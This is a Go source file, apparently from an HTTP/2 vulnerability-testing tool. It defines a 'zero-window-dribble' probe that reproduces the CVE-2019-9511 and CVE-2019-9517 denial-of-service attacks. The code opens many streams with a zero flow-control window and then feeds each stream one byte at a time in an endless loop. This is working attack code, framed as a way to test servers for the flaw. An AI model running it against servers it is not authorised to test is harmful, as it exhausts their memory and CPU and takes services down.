package probe

import "golang.org/x/net/http2"

// zeroWindowDribble reproduces CVE-2019-9511 (data dribble) and CVE-2019-9517 (internal data
// buffering): the client announces a stream window of 0, asks for /1m.bin on as many streams as
// it may (at most DribbleStreams), then grants each stream 1 byte per DribbleTick. A server
// that produces the responses ahead of the window holds 1 MiB per stream, and it answers every
// byte with a frame of its own.
var zeroWindowDribble = Probe{
	Name:     "zero-window-dribble",
	CVE:      "CVE-2019-9511, CVE-2019-9517",
	Reads:    true,
	Settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}},
	flood: func(a *abuser) error {
		n := min(uint32(a.lim.DribbleStreams), a.maxStreams)
		block := a.request("GET", pathLarge)
		ids := make([]uint32, 0, n)
		for range n {
			id := a.newStream()
			if err := a.headers(id, block, true, true); err != nil {
				return err
			}
			ids = append(ids, id)
		}
		for {
			if err := a.wait(a.lim.DribbleTick); err != nil {
				return err
			}
			for _, id := range ids {
				if err := a.windowUpdate(id, 1); err != nil {
					return err
				}
			}
		}
	},
}
